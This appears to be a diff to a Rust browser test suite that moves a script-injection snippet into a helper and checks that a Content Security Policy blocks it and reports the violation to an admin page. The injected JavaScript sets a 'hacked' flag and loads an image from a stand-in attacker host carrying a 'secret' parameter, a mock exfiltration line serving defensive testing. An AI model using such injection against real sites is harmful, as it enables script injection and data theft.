@@ -52,12 +52,8 @@ fn w8_w17_no_page_breaks_the_policy_and_each_is_isolated_from_other_sites() {
     browser.wait_for_text("main", "Nothing was blocked");
 }
 
-#[test]
-fn w8_an_injected_script_does_not_run_and_an_admin_reads_of_it() {
-    let mut program = Program::with_examples();
-    let browser = Browser::new(JavaScript::On);
-    set_up(&browser, &mut program);
-    browser.goto(&format!("{}/runs", program.url));
+/// Puts a script and a picture of another site into the page.
+pub fn inject(browser: &Browser) {
     browser.look(
         "const inline = document.createElement('script');
          inline.append('window.hacked = true');
@@ -66,6 +62,15 @@ fn w8_an_injected_script_does_not_run_and_an_admin_reads_of_it() {
          picture.src = 'https://evil.example/stolen?secret=1';
          document.body.append(picture);",
     );
+}
+
+#[test]
+fn w8_an_injected_script_does_not_run_and_an_admin_reads_of_it() {
+    let mut program = Program::with_examples();
+    let browser = Browser::new(JavaScript::On);
+    set_up(&browser, &mut program);
+    browser.goto(&format!("{}/runs", program.url));
+    inject(&browser);
     assert_eq!(browser.look("return window.hacked === undefined"), true);
     let reports = format!("{}/admin/csp-reports", program.url);
     browser.wait("the reports", |b| {
